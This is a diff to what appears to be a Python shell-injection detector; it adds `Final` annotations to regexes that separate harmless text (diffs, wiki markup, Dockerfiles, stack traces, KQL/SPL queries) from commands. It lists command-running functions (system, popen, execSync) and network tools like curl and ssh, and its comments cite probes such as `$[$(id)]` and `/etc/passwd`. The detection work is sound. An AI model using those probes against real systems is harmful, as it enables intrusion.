-_LANGUAGE_SHELLS = {"bash", "zsh", "ksh", "fish", "powershell", "pwsh"}
+_LANGUAGE_SHELLS: Final = {"bash", "zsh", "ksh", "fish", "powershell", "pwsh"}
 
 
 def _word_list(ws: list[tuple[str, str]]) -> bool:
@@ -1448,15 +1449,15 @@ def _word_list(ws: list[tuple[str, str]]) -> bool:
             return False
     return plain >= 1
 # An API name of the language a query is about: snake_case or dunder (`file_get_contents`, `__init__`, `child_process`)
-_IDENT = re.compile(r"^_*[a-z][a-z0-9]*(?:_+[a-z0-9]+)*_*$")
-_VERSION_ARG = re.compile(r"^\d{1,6}(?:\.\d{1,4}){0,3}$")
-_DOTFILE = re.compile(r"^\.[a-z][a-z0-9_\-]{0,30}(?:\.[a-z0-9_\-]{1,12}){0,3}$")  # `.env`, `.npmrc`, `.terraform.lock.hcl`
-_TIMING = {"sleep", "ping", "timeout", "waitfor"}
-_VAR_BUILTINS = {"unset", "export", "set", "declare", "typeset", "readonly", "local", "env"}
-_LAUNCHERS = {"start", "call", "exec", "nohup", "sudo", "doas", "runas", "busybox", "env", "time"}
-_WIN_SWITCH_ARG = re.compile(r"^/[a-z?][a-z0-9?\-]*(?::\S*)?$")  # `sfc /scannow`, `gpupdate /force`
-_VAR_BIN = re.compile(r"^\s*\$\{?[a-z_][a-z0-9_]*\}?(?:/\.\.)*/(?:usr/(?:local/)?)?s?bin/([a-z][\w.\-]*)")
-_DRIVE_ARG = re.compile(r"^[a-z]:[\w$][\w.\-$]+$")  # `c:\users` after the POSIX tokenizer consumed the backslash
+_IDENT: Final = re.compile(r"^_*[a-z][a-z0-9]*(?:_+[a-z0-9]+)*_*$")
+_VERSION_ARG: Final = re.compile(r"^\d{1,6}(?:\.\d{1,4}){0,3}$")
+_DOTFILE: Final = re.compile(r"^\.[a-z][a-z0-9_\-]{0,30}(?:\.[a-z0-9_\-]{1,12}){0,3}$")  # `.env`, `.npmrc`, `.terraform.lock.hcl`
+_TIMING: Final = {"sleep", "ping", "timeout", "waitfor"}
+_VAR_BUILTINS: Final = {"unset", "export", "set", "declare", "typeset", "readonly", "local", "env"}
+_LAUNCHERS: Final = {"start", "call", "exec", "nohup", "sudo", "doas", "runas", "busybox", "env", "time"}
+_WIN_SWITCH_ARG: Final = re.compile(r"^/[a-z?][a-z0-9?\-]*(?::\S*)?$")  # `sfc /scannow`, `gpupdate /force`
+_VAR_BIN: Final = re.compile(r"^\s*\$\{?[a-z_][a-z0-9_]*\}?(?:/\.\.)*/(?:usr/(?:local/)?)?s?bin/([a-z][\w.\-]*)")
+_DRIVE_ARG: Final = re.compile(r"^[a-z]:[\w$][\w.\-$]+$")  # `c:\users` after the POSIX tokenizer consumed the backslash
 
 
 def _search_query(name: str, w: str, args: list[str], ws: list[tuple[str, str]], idx: int, value: str) -> bool:
@@ -1480,11 +1481,11 @@ def _search_query(name: str, w: str, args: list[str], ws: list[tuple[str, str]],
 
 
 # cmd.exe: a command word made only of `%name%` expansions, and the `set name=` assignments of the same value.
-_CMD_VAR_WORD = re.compile(r"^(?:%[a-z_][\w]{0,30}%)+$")
-_CMD_VAR = re.compile(r"%([a-z_][\w]{0,30})%")
+_CMD_VAR_WORD: Final = re.compile(r"^(?:%[a-z_][\w]{0,30}%)+$")
+_CMD_VAR: Final = re.compile(r"%([a-z_][\w]{0,30})%")
 # (a separator followed by blanks and a newline leaves the match to that newline: a run of newlines was read again
 # from each of them)
-_CMD_SET = re.compile(r"(?:^|[&|\n(])(?![^\S\n]*+\n)\s*set\s+(?:/[ap]\s+)?\"?([a-z_][\w]{0,30})=")
+_CMD_SET: Final = re.compile(r"(?:^|[&|\n(])(?![^\S\n]*+\n)\s*set\s+(?:/[ap]\s+)?\"?([a-z_][\w]{0,30})=")
 
 
 def _cmd_var_run(w: str, s: str, sets: list[list[str]]) -> bool:
@@ -1547,12 +1548,12 @@ TRIGGERS += [r"^\s*(?:" + "|".join(sorted(_PARAM_PROBES)) + r")\s*$",
 # --- Round 5: text whose shell-looking parts a shell would not run as written.
 # A unified diff (`git diff`, `diff -u`): its header first and a hunk header inside. Its headers and `+`/`-` lines are
 # no commands to a shell (no program is named `+x`); context lines keep their leading blank and stay as they are.
-_DIFF_START = re.compile(r"^\s*(?:diff (?:--git|-[a-z]+) \S+ \S+\r?\n|index: \S+\r?\n|--- \S[^\n]*\r?\n\+\+\+ \S)", re.I)
-_DIFF_HUNK = re.compile(r"^@@ -\d+(?:,\d+)? \+\d+(?:,\d+)? @@", re.M)
-_DIFF_LINE = re.compile(r"^(?:diff (?:--git|-[a-z]+) \S+ \S+|index [0-9a-f]{4,40}\.\.[0-9a-f]{4,40}(?: \d{6})?|Index: \S+|"
-                        r"={10,}|@@ -\d+(?:,\d+)? \+\d+(?:,\d+)? @@.*|(?:new|deleted) file mode \d{6}|(?:old|new) mode \d{6}|"
-                        r"similarity index \d+%|rename (?:from|to) \S.*|Binary files \S.* differ|\\ No newline at end of file|"
-                        r"[+\-].*)\r?$")
+_DIFF_START: Final = re.compile(r"^\s*(?:diff (?:--git|-[a-z]+) \S+ \S+\r?\n|index: \S+\r?\n|--- \S[^\n]*\r?\n\+\+\+ \S)", re.I)
+_DIFF_HUNK: Final = re.compile(r"^@@ -\d+(?:,\d+)? \+\d+(?:,\d+)? @@", re.M)
+_DIFF_LINE: Final = re.compile(r"^(?:diff (?:--git|-[a-z]+) \S+ \S+|index [0-9a-f]{4,40}\.\.[0-9a-f]{4,40}(?: \d{6})?|Index: \S+|"
+                               r"={10,}|@@ -\d+(?:,\d+)? \+\d+(?:,\d+)? @@.*|(?:new|deleted) file mode \d{6}|(?:old|new) mode \d{6}|"
+                               r"similarity index \d+%|rename (?:from|to) \S.*|Binary files \S.* differ|\\ No newline at end of file|"
+                               r"[+\-].*)\r?$")
 
 
 def _unified_diff(value: str) -> str:
@@ -1564,13 +1565,13 @@ def _unified_diff(value: str) -> str:
 # MediaWiki markup. A table runs from a `{|` line to a `|}` line: to a shell its first line is a syntax error (`{` then
 # `|`), so nothing from it on runs; to a reader `|-` starts a row and `|`/`!` lines hold cells split by `||`/`!!`. Each
 # cell becomes a line behind the neutral mark (a `;` or `$(` inside still counts), as for Markdown tables.
-_WIKI_ROW_MARK = re.compile(r"^[ \t]*(?:\{\||\|\}|\|-|\|\+|\||!)")
-_WIKI_CELL_SEP = re.compile(r"\|\||!!")
+_WIKI_ROW_MARK: Final = re.compile(r"^[ \t]*(?:\{\||\|\}|\|-|\|\+|\||!)")
+_WIKI_CELL_SEP: Final = re.compile(r"\|\||!!")
 # Template parameters (`{{{image|}}}`) and the opening of a template or parser function (`{{Infobox`, `{{#if:`): to a
 # shell `{{{image` and `{{sort` are words naming no program (`{` is a reserved word only standing alone), so each is set
 # to a neutral word; a default with shell syntax in it (`$`, `;`, `&`, backticks, parentheses) is left as written.
-_WIKI_PARAM = re.compile(r"\{\{\{[\w \-]{1,40}(?:\|[^{}|\n$`;&()]{0,80})?\}\}\}")
-_WIKI_CALL = re.compile(r"\{\{(?=#?[a-z][\w \-]{0,40}(?:[|:}]|\n))", re.I)
+_WIKI_PARAM: Final = re.compile(r"\{\{\{[\w \-]{1,40}(?:\|[^{}|\n$`;&()]{0,80})?\}\}\}")
+_WIKI_CALL: Final = re.compile(r"\{\{(?=#?[a-z][\w \-]{0,40}(?:[|:}]|\n))", re.I)
 
 
 def _wiki_tables(value: str) -> str:
@@ -1606,22 +1607,22 @@ def _wiki_markup(value: str) -> str:
 
 # Programs, aliases and builtins a capitalised or upper-case word still runs: cmd.exe and PowerShell ignore case, and
 # these have Windows builds on the PATH (POSIX names are case-sensitive: `File`, `RUN` name no program there).
-_PS_ALIASES = frozenset("""cat cd chdir clear cls copy cp del diff dir echo erase history kill ls man md mkdir mount move mv
+_PS_ALIASES: Final = frozenset("""cat cd chdir clear cls copy cp del diff dir echo erase history kill ls man md mkdir mount move mv
 popd ps pushd pwd rd ren rm rmdir sleep sort start tee type where write set select foreach group measure compare date time
 exit shift path title color pause goto break rem prompt tar git make bash sh su curl ssh scp sftp python node""".split())
 # A line (after the first) whose first word is upper case and names no known program (`RUN`, `FROM` of a Dockerfile in
 # a post): the command fails, so neither it nor the `&&` chain joined to it on that line runs (both are set out of
 # command position). `||`, `;`, `|`, `&` and substitutions after it still count.
-_DEAD_CHAIN = re.compile(r"(?<=\n)([ \t]*)([A-Z][A-Z0-9_]+)([ \t](?:\\\r?\n|[^\n]){0,2000})")
-_CHAIN_END = re.compile(r"\|\||;|(?<!&)&(?!&)|\||`|\$\(")
+_DEAD_CHAIN: Final = re.compile(r"(?<=\n)([ \t]*)([A-Z][A-Z0-9_]+)([ \t](?:\\\r?\n|[^\n]){0,2000})")
+_CHAIN_END: Final = re.compile(r"\|\||;|(?<!&)&(?!&)|\||`|\$\(")
 
 
 # A Dockerfile sent whole: comments and `ARG` lines, then `FROM image [AS name]` first. Its upper-case instructions are
 # read by `docker build`, not by a shell (a case-insensitive one included), so `COPY`, `CMD`, `ENV`, `USER` fail like
 # `RUN` does; what follows `;`, `|`, `||`, `&` or a substitution on their lines still counts.
-_DOCKERFILE = re.compile(r"^(?:[ \t]*(?:#[^\n]*|ARG[ \t][^\n]*)?\r?\n)*[ \t]*FROM[ \t]+(?:--platform=\S+[ \t]+)?\S+"
-                         r"(?:[ \t]+AS[ \t]+[\w.\-]+)?[ \t]*\r?\n")
-_DOCKER_INSTRUCTIONS = frozenset("""FROM RUN CMD LABEL MAINTAINER EXPOSE ENV ADD COPY ENTRYPOINT VOLUME USER WORKDIR ARG
+_DOCKERFILE: Final = re.compile(r"^(?:[ \t]*(?:#[^\n]*|ARG[ \t][^\n]*)?\r?\n)*[ \t]*FROM[ \t]+(?:--platform=\S+[ \t]+)?\S+"
+                                r"(?:[ \t]+AS[ \t]+[\w.\-]+)?[ \t]*\r?\n")
+_DOCKER_INSTRUCTIONS: Final = frozenset("""FROM RUN CMD LABEL MAINTAINER EXPOSE ENV ADD COPY ENTRYPOINT VOLUME USER WORKDIR ARG
 ONBUILD STOPSIGNAL HEALTHCHECK SHELL""".split())
 
 
@@ -1639,19 +1640,19 @@ def _kill_chain(m: re.Match, dockerfile: bool = False) -> str:
 
 # A line (after the first) that begins with a capitalised English word that is also a POSIX tool (`  File "x.py", line
 # 3` of a traceback): no program is named `File`; the word is set out of command position by a neutral mark.
-_CAP_HEAD = re.compile(r"(?<=\n)([ \t]*)([A-Z][a-z]{1,15})(?=[ \t\"'])")
+_CAP_HEAD: Final = re.compile(r"(?<=\n)([ \t]*)([A-Z][a-z]{1,15})(?=[ \t\"'])")
 
 
 # A stack frame on a line of its own (Node/V8 `    at f (/app/x.js:170:41)`, `at <anonymous>:1:1`, `at (index):45:1`,
 # Java `\tat com.acme.A.run(A.java:42)`): it ends in a source location (a name, then `:line` or `:line:col`) and holds
 # no separator or substitution. `at` is a program (at(1)), but it takes a time, never a location, so the word is set
 # out of command position; the rest of the line is read as before (`at 10:30` and `at now + 1 minute` stay jobs).
-_STACK_FRAME = re.compile(r"^([ \t]*)(at)(?=[ \t]+[^\n;|&`$]*?(?:[^\s:;|&`$]*[a-z<>)/_.][^\s;|&`$]*:\d+(?::\d+)?\)?|"
-                          r"\((?:native|native method|unknown source)\))[ \t\r]*$)", re.M | re.I)
+_STACK_FRAME: Final = re.compile(r"^([ \t]*)(at)(?=[ \t]+[^\n;|&`$]*?(?:[^\s:;|&`$]*[a-z<>)/_.][^\s;|&`$]*:\d+(?::\d+)?\)?|"
+                                 r"\((?:native|native method|unknown source)\))[ \t\r]*$)", re.M | re.I)
 # The prefix PHP writes before each message in a log (`PHP Fatal error:  Uncaught Error: …`, `PHP Warning:  …`): a
 # label, not the `php` program (POSIX names are case-sensitive, and the words after it are a message, not a script).
-_PHP_LOG_HEAD = re.compile(r"^([ \t]*)(PHP)(?=[ \t]+(?:Fatal error|Parse error|Warning|Notice|Deprecated|Strict Standards|"
-                           r"(?:Catchable|Recoverable) fatal error|Stack trace|Stack Trace):)", re.M)
+_PHP_LOG_HEAD: Final = re.compile(r"^([ \t]*)(PHP)(?=[ \t]+(?:Fatal error|Parse error|Warning|Notice|Deprecated|Strict Standards|"
+                                  r"(?:Catchable|Recoverable) fatal error|Stack trace|Stack Trace):)", re.M)
 
 
 def _mark_cap_head(m: re.Match) -> str:
@@ -1663,17 +1664,17 @@ def _mark_cap_head(m: re.Match) -> str:
 
 # Query languages with pipes (KQL, Splunk SPL, LogQL, ES|QL): an operator only they have after a `|` makes the value a
 # query, and then `| sort -count`, `| top 10 by n`, `| where x > 1` are its operators (harmless filters to a shell too).
-_QUERY_OPS = frozenset("""summarize project project-away project-keep project-rename project-reorder extend mv-expand
+_QUERY_OPS: Final = frozenset("""summarize project project-away project-keep project-rename project-reorder extend mv-expand
 mv-apply make-series render take limit distinct order parse parse-where evaluate getschema serialize top-nested
 top-hitters stats eventstats streamstats tstats timechart chart dedup rex spath fillnull filldown transaction lookup
 inputlookup iplocation geostats rare bucket mvexpand makemv addtotals xyseries untable logfmt json line_format
 label_format unwrap keep dissect grok enrich timeslice fields table""".split())
-_QUERY_OP_AT = re.compile(r"\|[ \t]*([a-z][a-z_\-]*)", re.I)
+_QUERY_OP_AT: Final = re.compile(r"\|[ \t]*([a-z][a-z_\-]*)", re.I)
 # Query operators that are also text filters reading standard input (none runs another program).
-_QUERY_FILTERS = frozenset({"sort", "head", "tail", "top", "join", "uniq", "where", "rename", "expand", "set", "let"})
-_CLAUSE_WORDS = {"=", "==", "!=", "like", "in", "is", "between", "and", "or", "not", "contains", "has", "startswith",
-                 "endswith", "matches", "regex", "!contains", "in~", "=~"}
-_NOT_QUERY_ARG = re.compile(r"^(?:[/\\~.]|[a-z]:|-o|--output|--compress|--files0|\S*://|\d+\.\d+\.\d+)|[$`]")
+_QUERY_FILTERS: Final = frozenset({"sort", "head", "tail", "top", "join", "uniq", "where", "rename", "expand", "set", "let"})
+_CLAUSE_WORDS: Final = {"=", "==", "!=", "like", "in", "is", "between", "and", "or", "not", "contains", "has", "startswith",
+                        "endswith", "matches", "regex", "!contains", "in~", "=~"}
+_NOT_QUERY_ARG: Final = re.compile(r"^(?:[/\\~.]|[a-z]:|-o|--output|--compress|--files0|\S*://|\d+\.\d+\.\d+)|[$`]")
 
 
 def _query_pipeline(value: str) -> bool:
@@ -1696,15 +1697,15 @@ def _query_clause(ws: list[tuple[str, str]], idx: int) -> bool:
 
 
 # A spreadsheet formula (`=LET(net, B2-C2, …)`): the words inside its calls are arguments.
-_FORMULA = re.compile(r"^\s*=\s*[a-z_][\w.]*\(", re.I)
+_FORMULA: Final = re.compile(r"^\s*=\s*[a-z_][\w.]*\(", re.I)
 # A title naming a tool and its version before a colon, then a phrase: `PHP 8.2: "Creation of dynamic property is
 # deprecated" in a Laravel model`, `Python 3.12: what's new in typing`.
-_HEADING = re.compile(r"^[ \t]*[a-z][\w+#.\-]{0,30}(?:[ \t]+v?\d{1,4}(?:\.\d{1,4}){0,3})?:[ \t]+(\S.*)$", re.I)
-_DOTTED = re.compile(r"(?<!\d)\d+\.\d+\.\d+")  # (a start inside a digit run finds nothing the run's first digit misses)
+_HEADING: Final = re.compile(r"^[ \t]*[a-z][\w+#.\-]{0,30}(?:[ \t]+v?\d{1,4}(?:\.\d{1,4}){0,3})?:[ \t]+(\S.*)$", re.I)
+_DOTTED: Final = re.compile(r"(?<!\d)\d+\.\d+\.\d+")  # (a start inside a digit run finds nothing the run's first digit misses)
 
 
 # A folder written with a Windows variable or a drive (`%ProgramFiles%\\Acme`, `C:\\Acme`), read as one word of a sentence.
-_WIN_PATH_WORD = re.compile(r"(?:%[a-z_]+%|\b[a-z]:)(?:\\[\w.\-]+)*\\?", re.I)
+_WIN_PATH_WORD: Final = re.compile(r"(?:%[a-z_]+%|\b[a-z]:)(?:\\[\w.\-]+)*\\?", re.I)
 
 
 def _win_sentence(low: str) -> bool:
@@ -1737,19 +1738,19 @@ def _heading(value: str) -> bool:
 
 # A directory named after a package in the places state lives (`/var/lib/mysql`, `/var/log/nginx`): no program sits
 # directly there. (`/etc/…`, `/usr/…` and `/opt/…` paths keep the absolute-path rule: `/etc/passwd` after a split word.)
-_PACKAGE_DIR = re.compile(r"^/(?:var/(?:lib|log|cache|spool|run)|run|srv|home)/[a-z0-9][\w.@+\-]*/?$")
+_PACKAGE_DIR: Final = re.compile(r"^/(?:var/(?:lib|log|cache|spool|run)|run|srv|home)/[a-z0-9][\w.@+\-]*/?$")
 # A script's own arithmetic (`count=0 … $((count + 1))`): every name in it is assigned a number in the value; a probe
 # (`$((7*7))`) computes on literals, and `$((a[$(id)]))` has syntax no sum has.
-_ARITH = re.compile(r"\$\(\((.{0,200}?)\)\)|\$\[([^\]]{0,200})\]")
-_NUM_ASSIGN = re.compile(r"(?:^|[\s;&|(])([a-z_]\w{0,30})=\d+\b")
-_FOR_VAR = re.compile(r"\bfor\s+([a-z_]\w{0,30})\s+in\s+[\d\s]+[;\n]")  # `for n in 1 2 3;`: a loop over numbers
-_ARITH_BODY = re.compile(r"[\w\s+\-*/%<>=!&|^?:,()]*")
-_NAME = re.compile(r"[a-z_]\w*")
+_ARITH: Final = re.compile(r"\$\(\((.{0,200}?)\)\)|\$\[([^\]]{0,200})\]")
+_NUM_ASSIGN: Final = re.compile(r"(?:^|[\s;&|(])([a-z_]\w{0,30})=\d+\b")
+_FOR_VAR: Final = re.compile(r"\bfor\s+([a-z_]\w{0,30})\s+in\s+[\d\s]+[;\n]")  # `for n in 1 2 3;`: a loop over numbers
+_ARITH_BODY: Final = re.compile(r"[\w\s+\-*/%<>=!&|^?:,()]*")
+_NAME: Final = re.compile(r"[a-z_]\w*")
 
 
 # A JSONPath root with a filter, a quoted name or a wildcard (`$[?(@.seats >= 5)]`, `$['store']`, `$[*].id`): to bash
 # `$[?(…)]` is an arithmetic syntax error; a probe computes (`$[7*7]`, `$[$(id)]` also substitutes).
-_JSONPATH_ROOT = re.compile(r"\$\[(?:\?\(|['\"]|\*\])")
+_JSONPATH_ROOT: Final = re.compile(r"\$\[(?:\?\(|['\"]|\*\])")
 
 
 def _script_arithmetic(low: str) -> bool:
@@ -1765,22 +1766,22 @@ def _script_arithmetic(low: str) -> bool:
 
 
 # Fenced and indented code blocks of a Markdown post: the sentence around inline spans is what lies outside them.
-_CODE_BLOCK = re.compile(r"^[ \t]*```[^\n]*\n.*?^[ \t]*```[^\n]*$|(?:^(?: {4}|\t)[^\n]*(?:\n|$))+", re.M | re.S)
-_CONTRACTION = re.compile(r"^[a-z]+['’][a-z]{1,3}$")  # `it's`, `don't`, `they're`: function words of a sentence
+_CODE_BLOCK: Final = re.compile(r"^[ \t]*```[^\n]*\n.*?^[ \t]*```[^\n]*$|(?:^(?: {4}|\t)[^\n]*(?:\n|$))+", re.M | re.S)
+_CONTRACTION: Final = re.compile(r"^[a-z]+['’][a-z]{1,3}$")  # `it's`, `don't`, `they're`: function words of a sentence
 
 
 # `name(` right before a word: a call in code or a formula. To a POSIX shell `name(word` is a syntax error and nothing
 # runs; reserved words (`if(id)`), programs and cmdlets (PowerShell runs `echo(whoami)`'s parenthesis), the languages'
 # command-running functions (`system(whoami)`) and `@(`, `.(` keep the word in command position.
-_CALL = re.compile(r"^=?[a-z_][\w.]*\($")
-_RESERVED = {"if", "elif", "while", "until", "then", "do", "else", "time", "function", "select", "case", "for", "foreach",
-             "coproc", "exec", "eval"}
+_CALL: Final = re.compile(r"^=?[a-z_][\w.]*\($")
+_RESERVED: Final = {"if", "elif", "while", "until", "then", "do", "else", "time", "function", "select", "case", "for", "foreach",
+                    "coproc", "exec", "eval"}
 # Functions of the languages that run their argument as a command (`system(whoami)`, `os.popen(id)`, `execSync(ls)`).
-_EXEC_CALLS = {"system", "exec", "passthru", "shell_exec", "popen", "proc_open", "pcntl_exec", "eval", "assert", "execute",
-               "spawn", "spawnsync", "execsync", "execfile", "execfilesync", "call", "check_call", "check_output", "run",
-               "getoutput", "getstatusoutput", "startfile", "open", "syscall", "invoke", "start", "create_function",
-               "capture2", "capture3", "popen2", "popen3", "spawnl", "spawnv", "execl", "execv", "execvp", "execlp",
-               "shell", "sh", "cmd", "command", "runtime", "process", "processbuilder", "expect", "invoke_shell"}
+_EXEC_CALLS: Final = {"system", "exec", "passthru", "shell_exec", "popen", "proc_open", "pcntl_exec", "eval", "assert", "execute",
+                      "spawn", "spawnsync", "execsync", "execfile", "execfilesync", "call", "check_call", "check_output", "run",
+                      "getoutput", "getstatusoutput", "startfile", "open", "syscall", "invoke", "start", "create_function",
+                      "capture2", "capture3", "popen2", "popen3", "spawnl", "spawnv", "execl", "execv", "execvp", "execlp",
+                      "shell", "sh", "cmd", "command", "runtime", "process", "processbuilder", "expect", "invoke_shell"}
 
 
 def _call_argument(prev: str) -> bool:
